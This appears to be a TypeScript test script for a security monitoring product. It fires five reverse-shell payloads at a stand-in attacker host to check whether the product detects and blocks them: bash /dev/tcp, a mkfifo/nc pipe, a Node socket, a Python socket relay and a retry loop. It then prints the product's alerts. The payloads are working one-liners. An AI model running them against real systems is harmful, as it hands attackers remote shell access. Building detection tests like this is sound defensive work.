import { alerts, configure, copyRelease, mustInstall, showAlert, waitForScans } from "./product.ts";
import { bootHost } from "./testhost.ts";

const host = await bootHost();
try {
  const attacker = host.address.replace(/2$/, "1");
  await copyRelease(host);
  await mustInstall(host);
  await configure(host, { MODE: "enforce" });
  await waitForScans(host, 2);
  const attacks: [string, number, string][] = [
    ["bash", 4444, `bash -c 'bash -i >& /dev/tcp/${attacker}/4444 0>&1'`],
    ["fifo", 4445, `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${attacker} 4445 >/tmp/f`],
    [
      "node",
      4446,
      `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4446,"${attacker}",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});return /a/;})();'`,
    ],
    [
      "pyrelay",
      4447,
      `python3 -c '
import socket,subprocess,threading,time
s=socket.create_connection(("${attacker}",4447))
p=subprocess.Popen(["/bin/sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
def back():
  while True:
    b=p.stdout.read(1)
    if not b: break
    s.sendall(b)
threading.Thread(target=back,daemon=True).start()
while True:
  d=s.recv(1000)
  if not d: break
  p.stdin.write(d);p.stdin.flush()
'`,
    ],
    ["loop", 4448, `while :; do bash -c 'sh -i >& /dev/tcp/${attacker}/4448 0>&1' && break; done`],
  ];
  for (const [name, port, script] of attacks) {
    host.attacker.order({ do: "listen", port, transport: "tcp" });
    await Bun.sleep(200);
    await host.start(`atk-${name}`, script);
    const ok = await host.attacker.until(port, (c) => c.connected, 3000);
    host.attacker.order({ do: "send", port, text: "echo MARK$((40+2)); id > /root/owned-" + name + "\n" });
    await Bun.sleep(3000);
    const c = host.attacker.conversation(port);
    console.log(
      name,
      "connected",
      ok,
      "connections",
      c.connections,
      "closed",
      c.closed,
      "output",
      c.received.includes("MARK42"),
      JSON.stringify(c.received.slice(0, 80)),
      "owned",
      (await host.exec(`test -e /root/owned-${name} && echo yes`)).stdout.trim(),
    );
    await host.exec(`systemctl stop atk-${name}`);
  }
  const extra = process.argv[2];
  if (extra !== undefined) console.log((await host.exec(extra)).stdout);
  for (const alert of await alerts(host)) console.log(alert.rule.name, alert.count, alert.title, alert.action);
  const first = (await alerts(host)).filter((a) => a.rule.name === "reverse_shell");
  for (const one of [first.at(-1), first.at(0)]) if (one) console.log((await showAlert(host, one.id)).slice(0, 4000));
  console.log(
    (await host.exec("journalctl -u algo-monitor --no-pager -o cat | grep -aE 'DEV|sensor' | tail -60")).stdout,
  );
  console.log((await host.exec("algo-monitor status")).stdout);
} finally {
  await host.stop();
}
